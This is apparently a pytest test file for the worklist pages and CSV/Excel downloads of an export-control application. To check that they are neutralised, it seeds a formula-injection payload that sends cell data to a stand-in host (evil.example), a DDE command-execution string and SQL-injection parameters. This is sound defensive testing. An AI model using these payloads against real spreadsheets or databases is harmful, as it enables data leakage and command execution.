"""The worklist pages: the demo's blocked orders, hits, approvals and licences; search, sort, filter and paging;
CSV and Excel downloads of the whole list in the page's language; roles; hostile input (formula injection in a
download, bad parameters); exhausted is not "near exhaustion"; the dashboard's counts and default date."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from exportctl.http.app import create_app
from exportctl.http.web import worklists as worklist_pages
from exportctl.http.web.i18n import MESSAGES
from exportctl.order_input import LineInput, OrderInput
from exportctl.screening.screener import Screener
from exportctl.services import actors, auth, orders, records
from exportctl.services.actors import Actor, Role
from exportctl.store import db as store
from exportctl.store.models import Order, PartyHit
from tests.support.demo_db import demo_database
from tests.support.web_client import VIEWER, client, logged_in

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_NUMBER = "@SUM(1+1)"
HOSTILE_REASON = '+cmd|" /C calc"!A0'
DEMO_LAST_SHIP_DATE = "2019-12-23"  # SO-2019-0106, the demo's last order (demo.py)


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory, screener: Screener) -> Iterator[str]:
    url = demo_database(tmp_path_factory.mktemp("worklists"), screener)
    officer = Actor("olga", Role.OFFICER)
    with store.session(url) as db:
        records.add_user(db, actors.SYSTEM, VIEWER[0], "viewer")
        auth.set_password(db, actors.SYSTEM, VIEWER[0], VIEWER[1])
        # A consignee whose name is a spreadsheet formula, on an order whose number is one: HF to Korea after
        # 28 August 2019 needs an individual licence, so the order is blocked.
        records.add_party(db, actors.SYSTEM, "KR-EVIL", HOSTILE_NAME, "KR", ["consignee", "end-user"], None)
        line = LineInput(reference="3(1)#hydrogen-fluoride", quantity=10, value_jpy=1_000_000)
        order = OrderInput(number=HOSTILE_NUMBER, ship_date=dt.date(2019, 9, 2), destination="KR",
                           consignee="KR-EVIL", end_user="KR-EVIL", end_use="etching", wmd_end_use=False,
                           conventional_end_use=False, lines=[line])  # fmt: skip
        orders.add_order(db, Actor("alice", Role.CLERK), order, None)
        # One officer's approval of an indeterminate order: four-eyes (the default) awaits a second.
        orders.release_order(db, officer, "SO-2019-0301", HOSTILE_REASON)
        # Licences at 100 % and at 95 % of their value limit.
        for number, drawn in (("WL-FULL", 1_000_000), ("WL-NEAR", 950_000)):
            licence = orders.add_licence(db, officer, regime="jp", type="individual", number=number,
                                         holder="Example Materials K.K.", destinations=[], consignees=[], end_users=[],
                                         entries=[], items=[], quantity_limit=None, value_limit_jpy=1_000_000,
                                         valid_from=dt.date(2019, 1, 1), valid_to=dt.date(2099, 12, 31))  # fmt: skip
            orders.draw_down(db, officer, licence.id, 0.0, drawn, None, on=dt.date(2019, 6, 1))
    yield url
    store.engine(url).dispose()


@pytest.fixture(scope="module")
def app_for(database: str, screener: Screener) -> object:
    return create_app(database_url=database, screener=screener)


@pytest.fixture
def viewer(app_for: object) -> TestClient:
    return logged_in(app_for, *VIEWER)


def table_of(page: str) -> str:
    table = page[page.index('id="worklist"') :]
    return table[: table.index("</table>")]


def rows_of(page: str) -> list[str]:
    """The first cell's text of each row of the worklist table."""
    return re.findall(r"<tr>\s*<td[^>]*>(?:<a [^>]*>)?([^<]*)", table_of(page))


def csv_rows(response: object) -> list[list[str]]:
    body: bytes = response.content  # type: ignore[attr-defined]
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel then reads the text as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response: object) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(response.content))  # type: ignore[attr-defined]
    return [list(row) for row in book.active.iter_rows(values_only=True)]  # type: ignore[union-attr]


def english(key: str) -> str:
    return MESSAGES[key][0]


def japanese(key: str) -> str:
    return MESSAGES[key][1]


def blocked_numbers(database: str) -> set[str]:
    with store.session(database) as db:
        return set(db.scalars(select(Order.number).where(Order.status == "blocked")))


# --- the four lists -------------------------------------------------------------------------------------------


def test_blocked_orders_are_every_blocked_order(viewer: TestClient, database: str) -> None:
    page = viewer.get("/worklists/blocked")
    assert page.status_code == 200
    expected = blocked_numbers(database)
    assert {"SO-2019-0102", "SO-2019-0302", "SO-2019-0601", HOSTILE_NUMBER} <= expected
    assert set(rows_of(page.text)) == {n.replace('"', "&#34;") for n in expected}
    assert english("wl.days_blocked") in page.text and english("block.screening-hit") in page.text


def test_hits_to_review_are_the_open_hits(viewer: TestClient, database: str) -> None:
    page = viewer.get("/worklists/hits").text
    with store.session(database) as db:
        open_hits = db.scalars(select(PartyHit).where(PartyHit.status == "open")).all()
        expected = sorted((hit.score, hit.party.code) for hit in open_hits)
    assert {code for _, code in expected} == {"AE-DELTA", "CN-GOLDSTAR"}  # the demo's hits (demo.py)
    assert rows_of(page) == [code for _, code in reversed(expected)]  # highest score first
    assert "Delta Engineering Concern FZE" in page and "jp-eul" in page


def test_orders_awaiting_a_second_approval(viewer: TestClient) -> None:
    page = viewer.get("/worklists/approvals").text
    assert rows_of(page) == ["SO-2019-0301"]
    assert "olga" in page and english("wl.approved_by") in page


def test_licences_to_watch_on_a_date(viewer: TestClient) -> None:
    # On 2019-12-23: IND-2019-KR-0815 expires on 2020-02-07 (46 days), WL-FULL is exhausted, WL-NEAR 95 % drawn.
    page = viewer.get("/worklists/licences", params={"today": DEMO_LAST_SHIP_DATE, "sort": "number"}).text
    assert rows_of(page) == ["IND-2019-KR-0815", "WL-FULL", "WL-NEAR"]
    assert ">46<" in page


def test_exhausted_is_not_near_exhaustion(viewer: TestClient) -> None:
    day = {"today": DEMO_LAST_SHIP_DATE}
    exhausted = viewer.get("/worklists/licences", params=day | {"state": "exhausted"}).text
    near = viewer.get("/worklists/licences", params=day | {"state": "near-exhaustion"}).text
    assert rows_of(exhausted) == ["WL-FULL"] and rows_of(near) == ["WL-NEAR"]
    assert english("wl.state.exhausted") in table_of(exhausted)
    assert english("wl.state.near-exhaustion") not in table_of(exhausted)
    # the licence's own page and the dashboard say so too
    licence = viewer.get("/licences/WL-FULL").text
    assert english("lic.state.exhausted") in licence and english("warn.exhaustion") not in licence
    dashboard = viewer.get("/", params=day).text
    full = dashboard[dashboard.index("<strong>WL-FULL</strong>") :]
    full = full[: full.index("</li>")]
    assert english("warn.exhausted") in full and english("warn.exhaustion") not in full


# --- search, sort, filter, paging -----------------------------------------------------------------------------


def test_search_sort_and_filter(viewer: TestClient) -> None:
    seorae = viewer.get("/worklists/blocked", params={"q": "SEORAE", "sort": "number"}).text
    assert rows_of(seorae) == ["SO-2019-0102", "SO-2019-0105"]  # the demo's orders to Seorae still blocked
    backwards = viewer.get("/worklists/blocked", params={"q": "seorae", "sort": "number", "dir": "desc"}).text
    assert rows_of(backwards) == ["SO-2019-0105", "SO-2019-0102"]
    assert 'aria-sort="descending"' in backwards
    hit = viewer.get("/worklists/blocked", params={"reason": "screening-hit"}).text
    assert rows_of(hit) == ["SO-2019-0302"]
    sdn = viewer.get("/worklists/hits", params={"list": "jp-eul"}).text
    assert rows_of(sdn) == ["AE-DELTA"]
    nothing = viewer.get("/worklists/blocked", params={"q": "' OR 1=1 --"}).text
    assert english("wl.none") in nothing


def test_pages_are_pages_and_a_download_is_the_whole_list(
    viewer: TestClient, database: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(worklist_pages, "PAGE_SIZE", 2)
    expected = sorted(blocked_numbers(database))
    first = viewer.get("/worklists/blocked", params={"sort": "number"}).text
    second = viewer.get("/worklists/blocked", params={"sort": "number", "page": 2}).text
    assert rows_of(first) == [n.replace('"', "&#34;") for n in expected[:2]]
    assert rows_of(second) == [n.replace('"', "&#34;") for n in expected[2:4]]
    assert 'rel="next" href="/worklists/blocked?sort=number&amp;page=2"' in first
    download = viewer.get("/worklists/blocked", params={"sort": "number", "page": 2, "format": "csv"})
    assert [row[0].lstrip("'") for row in csv_rows(download)[1:]] == expected


# --- downloads ------------------------------------------------------------------------------------------------


def test_csv_download(viewer: TestClient, database: str) -> None:
    response = viewer.get("/worklists/blocked", params={"format": "csv", "reason": "licence-needed"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="worklist-blocked-')
    rows = csv_rows(response)
    assert rows[0][:3] == [english("orders.number"), english("orders.consignee"), english("orders.end_user")]
    with store.session(database) as db:
        needed = [o.number for o in db.scalars(select(Order).where(Order.status == "blocked"))
                  if "licence-needed" in o.blocking_reasons]  # fmt: skip
    assert sorted(row[0].lstrip("'") for row in rows[1:]) == sorted(needed)
    assert all(row[4] == english("block.licence-needed") for row in rows[1:])


def test_xlsx_download(viewer: TestClient) -> None:
    response = viewer.get("/worklists/licences", params={"format": "xlsx", "today": DEMO_LAST_SHIP_DATE})
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = xlsx_rows(response)
    assert rows[0][0] == english("lic.number")
    by_number = {row[0]: row for row in rows[1:]}
    assert set(by_number) == {"IND-2019-KR-0815", "WL-FULL", "WL-NEAR"}
    assert by_number["IND-2019-KR-0815"][3] == dt.datetime(2020, 2, 7)  # a date cell, not text
    assert by_number["WL-FULL"][6] == 100 and by_number["WL-NEAR"][6] == 95  # value drawn, in per cent


def test_downloads_are_headed_in_japanese(app_for: object) -> None:
    browser = logged_in(app_for, *VIEWER)
    browser.get("/lang/ja?next=/")
    page = browser.get("/worklists/approvals").text
    assert japanese("wl.title.approvals") in page and japanese("wl.approved_by") in page
    header = csv_rows(browser.get("/worklists/approvals", params={"format": "csv"}))[0]
    assert header[0] == japanese("orders.number") == "受注番号"
    sheet = xlsx_rows(browser.get("/worklists/hits", params={"format": "xlsx"}))
    assert sheet[0][:2] == [japanese("wl.party"), japanese("common.name")]


def test_formula_cells_are_neutralised_in_both_formats(viewer: TestClient) -> None:
    rows = csv_rows(viewer.get("/worklists/blocked", params={"format": "csv", "q": "KR-EVIL"}))
    assert rows[1][0] == "'" + HOSTILE_NUMBER
    assert rows[1][1] == f"KR-EVIL {HOSTILE_NAME}"  # a cell starting with a letter is never a formula: as it is
    sheet = xlsx_rows(viewer.get("/worklists/blocked", params={"format": "xlsx", "q": "KR-EVIL"}))
    assert sheet[1][0] == "'" + HOSTILE_NUMBER
    approvals = csv_rows(viewer.get("/worklists/approvals", params={"format": "csv"}))
    assert approvals[1][6] == "'" + HOSTILE_REASON
    book = openpyxl.load_workbook(io.BytesIO(viewer.get("/worklists/approvals", params={"format": "xlsx"}).content))
    cell = book.active["G2"]  # type: ignore[index]
    assert cell.value == "'" + HOSTILE_REASON and cell.data_type == "s"  # text, never a formula
    every = [c for row in book.active.iter_rows() for c in row]  # type: ignore[union-attr]
    assert not any(c.data_type == "f" for c in every)


def test_a_hostile_name_is_escaped_on_the_page(viewer: TestClient) -> None:
    page = viewer.get("/worklists/blocked", params={"q": "KR-EVIL"}).text
    assert HOSTILE_NAME not in page and "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in page


# --- roles and bad requests -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["blocked", "hits", "approvals", "licences"])
def test_anonymous_is_sent_to_log_in(app_for: object, name: str) -> None:
    for query in ("", "?format=csv"):
        response = client(app_for).get(f"/worklists/{name}{query}")
        assert response.status_code == 303 and response.headers["location"].startswith("/login?next=/worklists/")


@pytest.mark.parametrize(
    "query",
    [
        "sort=password",
        "sort=number;DROP TABLE orders",
        "dir=sideways",
        "page=0",
        "page=-1",
        "page=abc",
        "page=99999999999999999999",
        "format=pdf",
        "reason=%25",
        "reason=licence-needed%27--",
        "today=2019-02-30",
        "q=" + "x" * 201,
    ],
)
def test_bad_parameters_are_a_clear_refusal_never_a_500(viewer: TestClient, query: str) -> None:
    response = viewer.get(f"/worklists/blocked?{query}")
    assert response.status_code == 422, response.text
    assert "text/html" in response.headers["content-type"]


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/worklists/licences?state=active", 422),  # not a state the list has
        ("/worklists/licences?state=%27%20OR%201%3D1", 422),
        ("/worklists/hits?list=us-sdn%25", 422),
        ("/worklists/hits?list=no-such-list", 200),  # a well-formed list id: simply no rows
        ("/worklists/approvals?sort=days", 422),  # a sort key of another list
    ],
)
def test_other_lists_refuse_their_bad_values(viewer: TestClient, path: str, status: int) -> None:
    assert viewer.get(path).status_code == status


def test_a_page_past_the_end_is_not_found(viewer: TestClient) -> None:
    response = viewer.get("/worklists/approvals?page=2")
    assert response.status_code == 404 and "1 page(s)" in response.text


# --- dashboard and navigation ---------------------------------------------------------------------------------


def test_the_dashboard_opens_on_the_demo_period_and_links_its_counts(viewer: TestClient, database: str) -> None:
    page = viewer.get("/").text  # no date asked: the demo's books are of 2019, so not today
    assert f'name="today" value="{DEMO_LAST_SHIP_DATE}"' in page
    panel = page[page.index('id="worklists"') :]
    panel = panel[: panel.index("</section>")]
    counts = dict(re.findall(r'<a href="(/worklists/[^"]+)">([\d,]+)</a>', panel))
    assert counts["/worklists/blocked"] == str(len(blocked_numbers(database)))
    assert counts["/worklists/approvals"] == "1"
    assert counts["/worklists/hits"] == "3"  # the demo's three open hits
    assert counts[f"/worklists/licences?today={DEMO_LAST_SHIP_DATE}"] == "3"
    assert 'href="/worklists/blocked"' in viewer.get("/orders").text  # the navigation links the worklists
